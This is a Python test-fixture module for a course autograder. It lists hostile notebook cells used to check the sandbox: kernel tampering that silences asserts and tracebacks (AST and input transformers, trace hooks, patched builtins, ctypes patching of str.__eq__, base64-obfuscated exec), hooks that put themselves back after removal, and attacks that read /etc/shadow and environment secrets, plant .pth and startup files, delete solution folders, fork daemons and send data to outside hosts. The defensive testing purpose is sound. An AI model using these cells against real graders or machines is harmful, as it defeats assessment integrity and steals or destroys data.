"""The code of each hostile submission: one per way of tampering with the kernel, one per attack on the machine.

Each is a learner's cell, added to a notebook by helpers.teach.crafted. Tampering cases go into
the untouched exercise (they would gain marks undetected); sandbox attacks go into a copy of the
solution (it must keep full marks while every attack fails).
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

MARKER = "course-crafted-daemon"  # a process left running would carry this in its command line


@dataclass(frozen=True)
class Targets:
    """What the hostile submissions try to read, damage or reach."""

    course: Path
    repo: Path
    home: Path
    downloads: Path
    venv: Path
    port: int = 0  # a TCP port on 127.0.0.1 that the tests listen on; 0: no network attack


# --- Tampering with the kernel that runs the tests: one family each, on the untouched exercise ---------

TAMPERING = {
    "input transformer": (
        "get_ipython().input_transformers_cleanup.append(\n"
        "    lambda lines: ['pass\\n'] if any('assert' in l or '___' in l for l in lines) else lines)"
    ),
    "AST transformer": (
        "import ast\n"
        "class _NoAsserts(ast.NodeTransformer):\n"
        "    def visit_Assert(self, node):\n"
        "        return ast.Pass()\n"
        "get_ipython().ast_transformers.append(_NoAsserts())"
    ),
    "replaced run_cell": (
        "_shell = get_ipython()\n"
        "_run = _shell.run_cell\n"
        "def _quiet(raw_cell, *args, **kwargs):\n"
        "    return _run('pass' if 'assert' in raw_cell or '___' in raw_cell else raw_cell, *args, **kwargs)\n"
        "_shell.run_cell = _quiet"
    ),
    "replaced showtraceback and result": (
        "_shell = get_ipython()\n"
        "_shell.showtraceback = lambda *args, **kwargs: None\n"
        "def _all_good(result):\n"
        "    result.error_in_exec = result.error_before_exec = None\n"
        "_shell.events.register('post_run_cell', _all_good)"
    ),
    "custom exception handler": (
        "get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)"
    ),
    "tracing hook": (
        "import sys, linecache\n"
        "def _local(frame, event, arg):\n"
        "    line = linecache.getline(frame.f_code.co_filename, frame.f_lineno)\n"
        "    if event == 'line' and line.lstrip().startswith('assert'):\n"
        "        try:\n"
        "            frame.f_lineno = frame.f_lineno + 1\n"
        "        except ValueError:\n"
        "            pass\n"
        "    return _local\n"
        "sys.settrace(lambda frame, event, arg: _local if 'ipykernel_' in frame.f_code.co_filename else None)"
    ),
    "patched builtins": ("import builtins\nbuiltins.abs = lambda x: 0.0\nbuiltins.all = lambda iterable: True"),
    "patched type slot (str.__eq__)": (
        "import ctypes, gc\ngc.get_referents(str.__dict__)[0]['__eq__'] = lambda self, other: True\n"
        "ctypes.pythonapi.PyType_Modified(ctypes.py_object(str))"
    ),
    "globals shadowing builtins": (
        "class _Yes(str):\n    __eq__ = lambda self, other: True\n    __hash__ = str.__hash__\n"
        "str = _Yes\nabs = lambda x: 0.0\nall = lambda iterable: True"
    ),
    "obfuscated": (
        "import base64\n"
        "exec(base64.b64decode('"
        + __import__("base64")
        .b64encode(b"get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)")
        .decode()
        + "').decode())"
    ),
}


# --- The same families, each trying to survive the neutralising before every test --------------------
# A thread (or an audit hook, which can never be removed) puts the hook back right after the grader sets it
# aside, so it is there while the test runs; the grader's check after the test must see it. The display hook
# is put back by an audit hook: IPython itself swaps sys.displayhook around every cell, so a thread would only
# win a race inside the cell.

_KEEP = (
    "import threading, time\n_ip = get_ipython()\n"
    "def _keep():\n    while True:\n{body}        time.sleep(0.0005)\n"
    "threading.Thread(target=_keep, daemon=True).start()"
)


def _kept(setup: str, body: str) -> str:
    """Attack code: ``setup``, then a daemon thread that runs ``body`` (indented 8) every half millisecond."""
    return setup + "\n" + _KEEP.format(body=body)


SURVIVING = {
    "input transformer, put back by a thread": _kept(
        "def _strip(lines):\n    return ['pass\\n'] if any('assert' in l for l in lines) else lines",
        "        if _strip not in _ip.input_transformers_cleanup:\n"
        "            _ip.input_transformers_cleanup.append(_strip)\n",
    ),
    "AST transformer, put back by an audit hook": (
        "import ast, sys\n_ip = get_ipython()\n"
        "class _NoAsserts(ast.NodeTransformer):\n    def visit_Assert(self, node):\n        return ast.Pass()\n"
        "_t = _NoAsserts()\n"
        "def _hook(event, args):\n"
        "    if event == 'compile' and _t not in _ip.ast_transformers:\n        _ip.ast_transformers.append(_t)\n"
        "sys.addaudithook(_hook)"
    ),
    "event callback and showtraceback, put back by a thread": _kept(
        "def _all_good(result):\n    result.error_in_exec = result.error_before_exec = None\n"
        "_quiet = lambda *args, **kwargs: None",
        "        if _all_good not in _ip.events.callbacks['post_run_cell']:\n"
        "            _ip.events.register('post_run_cell', _all_good)\n"
        "        if _ip.__dict__.get('showtraceback') is not _quiet:\n            _ip.showtraceback = _quiet\n",
    ),
    "custom exception handler, put back by a thread": _kept(
        "_quiet = lambda shell, etype, value, tb, tb_offset=None: None",
        "        if not _ip.custom_exceptions:\n            _ip.set_custom_exc((BaseException,), _quiet)\n",
    ),
    "tracing hook, put back by an audit hook": (
        "import sys, linecache\n"
        "def _local(frame, event, arg):\n"
        "    line = linecache.getline(frame.f_code.co_filename, frame.f_lineno)\n"
        "    if event == 'line' and line.lstrip().startswith('assert'):\n"
        "        try:\n            frame.f_lineno = frame.f_lineno + 1\n        except ValueError:\n            pass\n"
        "    return _local\n"
        "_tracer = lambda frame, event, arg: _local if 'ipykernel_' in frame.f_code.co_filename else None\n"
        "def _hook(event, args):\n    if event == 'exec' and sys.gettrace() is None:\n        sys.settrace(_tracer)\n"
        "sys.addaudithook(_hook)"
    ),
    "display hook, put back by an audit hook": (
        "import sys\n_show = lambda value: None\n"
        "def _hook(event, args):\n"
        "    if event == 'exec' and sys.displayhook is not _show:\n        sys.displayhook = _show\n"
        "sys.addaudithook(_hook)"
    ),
    "patched builtins, put back by a thread": _kept(
        "import builtins\n_abs, _all = (lambda x: 0.0), (lambda iterable: True)",
        "        builtins.abs, builtins.all = _abs, _all\n",
    ),
    "patched type slot (str.__eq__), put back by a thread": _kept(
        "import ctypes, gc\n_d = gc.get_referents(str.__dict__)[0]\n_yes = lambda self, other: True",
        "        if _d.get('__eq__') is not _yes:\n            _d['__eq__'] = _yes\n"
        "            ctypes.pythonapi.PyType_Modified(ctypes.py_object(str))\n",
    ),
    "globals shadowing builtins, put back by a thread": _kept(
        "_fakes = {'print': lambda *a, **k: None, 'abs': lambda x: 0.0, 'all': lambda it: True, 'len': lambda x: 3}",
        "        _ip.user_ns.update(_fakes)\n",
    ),
}


# Cheats that cannot turn a failing test into a pass, only a wrong answer into a right one: these go into a
# solution whose knowledge-check letters are wrong (the hidden tests compare them with str.__eq__).
ON_WRONG_LETTERS = ("patched type slot (str.__eq__)", "globals shadowing builtins")


def library_patch(module: str) -> str:
    """A patch of a library function the hidden tests use, for ``module`` (random for 01, torch for the rest)."""
    if module.startswith(("01", "02")):
        return "import random, numpy\nrandom.gauss = lambda mu, sigma: 0.0\nnumpy.allclose = lambda *a, **k: True"
    return "import torch\ntorch.allclose = lambda *a, **k: True\ntorch.equal = lambda *a, **k: True"


# --- Attacks on the grading machine: each on a copy of the solution, which must keep full marks -----


def _snooper(t: Targets, module: str) -> str:
    reads = [
        t.course / "solutions" / module / f"{module}.ipynb",
        t.course / "gradebook.db",
        t.repo / ".git" / "config",
        t.repo / "solutions" / module / f"{module}.ipynb",
        t.home / "secret.txt",
        t.course / "submitted",
        t.downloads,
        Path("/etc/shadow"),
    ]
    return (
        "import os\n"
        f"for _p in {[str(p) for p in reads]!r}:\n"
        "    try:\n"
        "        _found = os.listdir(_p) if os.path.isdir(_p) else open(_p, 'rb').read(200)\n"
        "        print('FOUND', _p, _found)\n"
        "    except Exception as _e:\n"
        "        print('blocked', _p, type(_e).__name__)\n"
        "print('ENV', sorted(os.environ))\n"
        "print('SECRETS', [v for k, v in os.environ.items() if 'SECRET' in k])"
    )


def _vandal(t: Targets, module: str) -> str:
    site = next((t.venv / "lib").glob("python3*/site-packages"), t.venv)
    writes = [
        (t.course / "gradebook.db", "w"),
        (t.repo / "helpers" / "__init__.py", "a"),
        (site / "evil.pth", "w"),
        (t.home / ".ipython" / "profile_default" / "startup" / "00-evil.py", "w"),
        (t.course / "planted.txt", "w"),
        (t.repo / "planted.txt", "w"),
    ]
    return (
        "import os, shutil\n"
        f"for _p, _mode in {[(str(p), m) for p, m in writes]!r}:\n"
        "    try:\n"
        "        os.makedirs(os.path.dirname(_p), exist_ok=True)\n"
        "        open(_p, _mode).write('import os  # planted by a submission\\n')\n"
        "        print('WROTE', _p)\n"
        "    except Exception as _e:\n"
        "        print('blocked', _p, type(_e).__name__)\n"
        f"for _d in {[str(t.course / 'solutions' / module), str(t.repo / 'solutions' / module)]!r}:\n"
        "    try:\n"
        "        shutil.rmtree(_d)\n"
        "        print('DELETED', _d)\n"
        "    except Exception as _e:\n"
        "        print('blocked', _d, type(_e).__name__)"
    )


def _daemon(_: Targets, module: str) -> str:
    sleeper = f"[sys.executable, '-c', 'import time; time.sleep(600)', '{MARKER}']"
    return (
        "import os, subprocess, sys\n"
        f"subprocess.Popen({sleeper}, start_new_session=True)\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        f"        os.execv(sys.executable, {sleeper})\n"
        "    os._exit(0)\n"
        "print('daemons started')"
    )


def _network(t: Targets, module: str) -> str:
    return (
        "import socket\n"
        f"for _host, _port in [('127.0.0.1', {t.port}), ('1.1.1.1', 53), ('pypi.org', 443)]:\n"
        "    try:\n"
        "        socket.create_connection((_host, _port), timeout=3).sendall(b'stolen answers')\n"
        "        print('CONNECTED', _host, _port)\n"
        "    except Exception as _e:\n"
        "        print('blocked', _host, _port, type(_e).__name__)"
    )


SANDBOX_ATTACKS = {
    "reads private files": ("snooper_1101", _snooper),
    "writes outside its folder": ("vandal_1102", _vandal),
    "leaves processes running": ("daemon_1103", _daemon),
    "uses the network": ("netcat_1104", _network),
    "runs out of memory": ("hog_1105", lambda t, m: "import numpy\n_big = numpy.ones(6 * 2**30 // 8)"),
    "floods the output": ("flood_1106", lambda t, m: "for _ in range(40):\n    print('x' * 2**20)"),
}
